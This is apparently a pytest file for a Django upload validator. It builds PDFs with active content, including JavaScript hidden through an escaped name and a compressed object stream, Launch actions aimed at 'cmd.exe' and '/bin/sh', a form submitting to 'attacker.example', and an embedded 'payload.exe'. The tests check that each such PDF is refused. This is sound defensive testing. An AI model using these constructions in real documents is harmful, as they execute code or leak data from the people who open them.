"""PDFs with active content, built here with pypdf, are refused with the reason named; ordinary
PDFs with links, bookmarks and an opening view are accepted."""

import io
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from applications.file_checks import file_check

MEGABYTE = 1024 * 1024


def _name(value: str) -> NameObject:
    return NameObject(value)


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def _bytes(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    action.update({_name(f"/{key}"): value for key, value in entries.items()})
    return action


def _annotation(writer: PdfWriter, subtype: str, **entries) -> None:
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name(subtype),
            _name("/Rect"): ArrayObject([FloatObject(n) for n in (10, 10, 100, 100)]),
        }
    )
    annotation.update({_name(f"/{key}"): value for key, value in entries.items()})
    page = writer.pages[0]
    page[_name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _add_document_javascript(writer: PdfWriter, script: str) -> None:
    # The document-level name tree of scripts, run when the document opens.
    action = writer._add_object(_action("/JavaScript", JS=TextStringObject(script)))
    writer._root_object[_name("/Names")] = DictionaryObject(
        {
            _name("/JavaScript"): DictionaryObject(
                {_name("/Names"): ArrayObject([TextStringObject("start"), action])}
            )
        }
    )


def javascript_document_level() -> bytes:
    writer = _writer()
    _add_document_javascript(writer, "app.alert('hello');")
    return _bytes(writer)


def javascript_open_action() -> bytes:
    writer = _writer()
    writer._root_object[_name("/OpenAction")] = _action(
        "/JavaScript", JS=TextStringObject("app.launchURL('https://example.org');")
    )
    return _bytes(writer)


def javascript_page_additional_action() -> bytes:
    writer = _writer()
    writer.pages[0][_name("/AA")] = DictionaryObject(
        {_name("/O"): _action("/JavaScript", JS=TextStringObject("this.print();"))}
    )
    return _bytes(writer)


def javascript_in_a_link() -> bytes:
    writer = _writer()
    _annotation(writer, "/Link", A=_action("/JavaScript", JS=TextStringObject("x()")))
    return _bytes(writer)


def javascript_in_a_form_field() -> bytes:
    writer = _writer()
    field = DictionaryObject(
        {
            _name("/FT"): _name("/Tx"),
            _name("/T"): TextStringObject("name"),
            _name("/AA"): DictionaryObject(
                {_name("/K"): _action("/JavaScript", JS=TextStringObject("event.rc = true;"))}
            ),
        }
    )
    writer._root_object[_name("/AcroForm")] = DictionaryObject(
        {_name("/Fields"): ArrayObject([writer._add_object(field)])}
    )
    return _bytes(writer)


def javascript_with_an_escaped_name() -> bytes:
    # /J#61vaScript is /JavaScript to every reader; a byte grep would not see it.
    return _plain_pdf(b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\);) >>")


def _plain_pdf(action: bytes) -> bytes:
    """A PDF 1.4 with a classic cross-reference table whose OpenAction is object 4."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        action,
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_offset = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def javascript_in_an_object_stream() -> bytes:
    # The action is kept in a compressed object stream, as PDF 1.5 writers do: its bytes are
    # not in the file as written.
    return _object_stream_pdf(b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\);) >>")


def _object_stream_pdf(action: bytes) -> bytes:
    """A PDF 1.5 whose OpenAction (object 4) lives in a deflated object stream (object 5)."""
    header = b"4 0 "
    stream = zlib.compress(header + action)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        None,
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(stream))
        + stream
        + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.5\n")
    offsets = {}
    for number, body in enumerate(objects, start=1):
        if body is None:
            continue
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_offset = len(out)
    # A cross-reference stream: type 1 rows for plain objects, type 2 for object 4 in stream 5.
    rows = [b"\x00\x00\x00\xff\xff"]
    for number in range(1, 7):
        if number == 4:
            rows.append(b"\x02\x00\x00\x05\x00")
        elif number == 6:
            rows.append(b"\x01" + xref_offset.to_bytes(3, "big") + b"\x00")
        else:
            rows.append(b"\x01" + offsets[number].to_bytes(3, "big") + b"\x00")
    data = b"".join(rows)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 3 1] /Root 1 0 R /Length %d >>\nstream\n"
        % len(data)
        + data
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    )
    return bytes(out)


def launch_action() -> bytes:
    writer = _writer()
    writer._root_object[_name("/OpenAction")] = _action(
        "/Launch", F=TextStringObject("cmd.exe"), Win=DictionaryObject()
    )
    return _bytes(writer)


def launch_in_a_link() -> bytes:
    writer = _writer()
    _annotation(writer, "/Link", A=_action("/Launch", F=TextStringObject("/bin/sh")))
    return _bytes(writer)


def submit_form() -> bytes:
    writer = _writer()
    _annotation(
        writer,
        "/Widget",
        A=_action("/SubmitForm", F=TextStringObject("https://attacker.example/collect")),
    )
    return _bytes(writer)


def embedded_file() -> bytes:
    writer = _writer()
    writer.add_attachment("payload.exe", b"MZ not really a program")
    return _bytes(writer)


def file_attachment_annotation() -> bytes:
    writer = _writer()
    embedded = DecodedStreamObject()
    embedded.set_data(b"hidden")
    embedded[_name("/Type")] = _name("/EmbeddedFile")
    spec = DictionaryObject(
        {
            _name("/Type"): _name("/Filespec"),
            _name("/F"): TextStringObject("note.txt"),
            _name("/EF"): DictionaryObject({_name("/F"): writer._add_object(embedded)}),
        }
    )
    _annotation(writer, "/FileAttachment", FS=writer._add_object(spec))
    return _bytes(writer)


def xfa_form() -> bytes:
    writer = _writer()
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
    writer._root_object[_name("/AcroForm")] = DictionaryObject(
        {_name("/Fields"): ArrayObject(), _name("/XFA"): writer._add_object(xfa)}
    )
    return _bytes(writer)


def rich_media() -> bytes:
    writer = _writer()
    _annotation(
        writer,
        "/RichMedia",
        RichMediaContent=DictionaryObject({_name("/Assets"): DictionaryObject()}),
    )
    return _bytes(writer)


def screen_rendition() -> bytes:
    writer = _writer()
    _annotation(writer, "/Screen", A=_action("/Rendition", OP=NumberObject(0)))
    return _bytes(writer)


def three_d() -> bytes:
    writer = _writer()
    _annotation(writer, "/3D")
    return _bytes(writer)


ACTIVE_CORPUS = [
    (javascript_document_level, "JavaScript"),
    (javascript_open_action, "JavaScript"),
    (javascript_page_additional_action, "JavaScript"),
    (javascript_in_a_link, "JavaScript"),
    (javascript_in_a_form_field, "JavaScript"),
    (javascript_with_an_escaped_name, "JavaScript"),
    (javascript_in_an_object_stream, "JavaScript"),
    (launch_action, "Launch"),
    (launch_in_a_link, "Launch"),
    (submit_form, "SubmitForm"),
    (embedded_file, "embedded files"),
    (file_attachment_annotation, "embedded files"),
    (xfa_form, "XFA"),
    (rich_media, "multimedia"),
    (screen_rendition, "multimedia"),
    (three_d, "multimedia"),
]


def check(content: bytes):
    uploaded = SimpleUploadedFile("dossier.pdf", content, content_type="application/pdf")
    return file_check(uploaded=uploaded, allowed_formats=["pdf"], max_bytes=MEGABYTE)


def _id(value) -> str:
    return getattr(value, "__name__", str(value))


@pytest.mark.parametrize(("build", "reason"), ACTIVE_CORPUS, ids=_id)
def test_file_check_refuses_every_pdf_of_the_active_content_corpus_naming_the_reason(build, reason):
    with pytest.raises(ValidationError) as caught:
        check(build())

    assert caught.value.code == "active_content"
    text = " ".join(caught.value.messages)
    assert reason in text
    assert "could run when a reviewer opens it" in text


def test_file_check_names_every_kind_of_active_content_a_pdf_holds():
    writer = _writer()
    _add_document_javascript(writer, "app.alert(1);")
    writer.add_attachment("a.txt", b"a")

    with pytest.raises(ValidationError) as caught:
        check(_bytes(writer))

    text = " ".join(caught.value.messages)
    assert "JavaScript" in text and "embedded files or attachments" in text


def test_file_check_accepts_a_pdf_with_links_bookmarks_and_an_opening_view():
    writer = _writer()
    writer.add_blank_page(width=595, height=842)
    writer.add_outline_item(title="Second page", page_number=1)
    _annotation(
        writer, "/Link", A=_action("/URI", URI=TextStringObject("https://health.ec.europa.eu/"))
    )
    writer._root_object[_name("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, _name("/Fit")]
    )
    # Text that merely mentions the words is not active content.
    writer.add_metadata({"/Subject": "Why /JavaScript and /Launch are refused"})

    checked = check(_bytes(writer))

    assert checked.format == "pdf"
